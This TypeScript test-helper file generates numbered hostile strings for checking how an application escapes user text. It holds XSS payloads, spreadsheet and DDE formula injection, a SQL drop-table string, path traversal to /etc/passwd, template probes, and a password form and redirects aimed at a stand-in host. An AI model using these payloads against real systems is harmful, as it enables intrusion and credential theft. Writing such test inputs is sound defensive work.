/** Texts that become markup, script, a formula or nonsense wherever they are not taken as text. */

/** What a text begins with, in turn. */
const beginnings = [
	"=cmd|' /C calc'!A0 ",
	'javascript:window.hacked=1// ',
	'"><img src=x onerror=window.hacked=1> ',
	'+1+1 ',
	'@SUM(1) ',
	'-1+1 ',
	'\t=1 ',
	'＝1+1 ',
	' =1 ',
	"' onmouseover='window.hacked=1' x=' ",
	'data:text/html,<script>window.hacked=1</script> '
];

const pieces = [
	'<script>window.hacked=1</script>',
	'</script><script>window.hacked=1</script>',
	'"><img src=x onerror="window.hacked=1">',
	"' autofocus onfocus='window.hacked=1",
	'<svg onload=window.hacked=1></svg>',
	'<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
	'<a href="javascript:window.hacked=1">here</a>',
	'<style>*{display:none}</style><link rel=stylesheet href=//elsewhere.example>',
	'<form action=//elsewhere.example><input name=password></form>',
	'<meta http-equiv=refresh content="0;url=//elsewhere.example">',
	'<base href=//elsewhere.example>',
	'</title></style></textarea></noscript><!-- --> ]]>',
	'{{7*7}} ${7*7} #{7*7} <%= x*x %> {@html "<b>"} %s%n',
	'&lt;script&gt; &amp;amp; &#60;b&#62; &quot; &nbsp',
	'=HYPERLINK("http://elsewhere.example")',
	'[here](javascript:window.hacked=1) `code` **bold**',
	"'; drop table reviews; --",
	'../../../etc/passwd \\..\\',
	'\u202eright to left\u202c \u2066isolated\u2069 \u200b\u200d\ufeff',
	'nothing\u0000 and a bell\u0007 and half a letter \ud800 and \udc00',
	'line\nbreak\r\nand\u2028and\u2029',
	'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!͖̬̰̙̗̿̋ͥͥ̂ͣ̐́́͜͞',
	'👩‍👩‍👧‍👦 🏴󠁧󠁢󠁳󠁣󠁴󠁿 𝔸 ﷽',
	'__proto__ constructor toString',
	`${'long'.repeat(80)}.`
];

/** For fields of few letters: what is worst, in turn. */
const short = [
	'<img src=x onerror=window.hacked=1>',
	'=1+1</script><b>',
	'"><svg onload=window.hacked=1>',
	'javascript:window.hacked=1',
	"' onfocus='window.hacked=1",
	'\u202e\u0000\ud800{{7*7}}&lt;',
	'%2e%2e/?#&;\\../x',
	'@SUM(1)|é👩‍👧'
];

/** A mark by which one finds where a text is shown. */
export const markOf = (number: number) => `mark${number}mark`;

/** The hostile text with that number, at most so long. */
export function hostileText(number: number, longest = Infinity): string {
	const mark = markOf(number);
	if (longest <= 200) return `${short[number % short.length]!} ${mark}`.slice(-longest);
	return `${beginnings[number % beginnings.length]!}${mark} ${pieces.join(' ')}`.slice(0, longest);
}

/** The harmless text with that number: where it is shown, the hostile one is shown too. */
export const harmlessText = (number: number): string => `plain ${markOf(number)} words`;
